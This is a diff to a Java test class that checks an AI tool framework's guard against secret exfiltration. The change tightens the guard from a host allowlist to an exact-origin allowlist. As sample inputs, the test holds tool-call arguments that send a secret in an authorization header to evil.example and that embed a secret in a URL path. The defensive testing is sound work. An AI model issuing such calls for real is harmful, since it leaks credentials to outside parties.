@@ -28,8 +28,8 @@ import dev.reprise.tool.secret.NamedSecret;
 import dev.reprise.tool.secret.ToolSecrets;
 import dev.reprise.tool.web.HttpFetchTool;
 import dev.reprise.tool.web.HttpPostTool;
-import dev.reprise.web.HostAllowlist;
 import dev.reprise.web.LoopbackServer;
+import dev.reprise.web.OriginAllowlist;
 import dev.reprise.web.WebFixture;
 import jakarta.enterprise.event.Startup;
 import java.nio.file.Path;
@@ -116,8 +116,9 @@ class ExfiltrationTest {
                         {"url": "http://evil.example/", "headers": {"authorization": "{{secret:weather}}"}}"""))
                 .message())
         .isEqualTo(
-            "http_fetch was not run: the secret 'weather' goes to server.example alone, and the URL"
-                + " leads elsewhere");
+            "http_fetch was not run: the secret 'weather' goes to http://server.example:"
+                + server.port()
+                + " alone, and the URL leads elsewhere");
     assertThat(failure(call("http_post", "{\"url\": \"http://a.b/{{secret:weather}}\"}")).message())
         .isEqualTo(
             "http_post was not run: a secret may stand in headers.authorization or json or text,"
@@ -184,6 +185,19 @@ class ExfiltrationTest {
     assertThat(server.heard()).isEmpty();
   }
 
+  @ParameterizedTest
+  @ValueSource(strings = {"server.example", "https://server.example:PORT", "http://server.example"})
+  void sendsItNeitherInPlainTextNorToAnotherPortOfItsHost(String origin) {
+    NamedSecret secret = secret(origin.replace("PORT", String.valueOf(server.port())));
+    String arguments =
+        """
+        {"url": "http://server.example:PORT/", "headers": {"authorization": "{{secret:weather}}"}}""";
+
+    assertThat(failure(call(caller(secret), "http_fetch", arguments)).message())
+        .endsWith("alone, and the URL leads elsewhere");
+    assertThat(server.heard()).isEmpty();
+  }
+
   /** Otherwise the first call would be the first to find out. */
   @Test
   void stopsTheStartWhereThePolicyGivesTheWebASecretThatIsForNoHost() {
@@ -199,9 +213,13 @@ class ExfiltrationTest {
         .check(new Startup());
   }
 
-  private static NamedSecret secret() {
+  private NamedSecret secret() {
+    return secret("http://server.example:" + server.port());
+  }
+
+  private static NamedSecret secret(String origin) {
     return new NamedSecret(
-        "weather", KEY, TenantScope.ALL, Optional.of(HostAllowlist.of(List.of("server.example"))));
+        "weather", KEY, TenantScope.ALL, Optional.of(OriginAllowlist.of(List.of(origin))));
   }
 
   private ToolOutcome call(String tool, String arguments) {
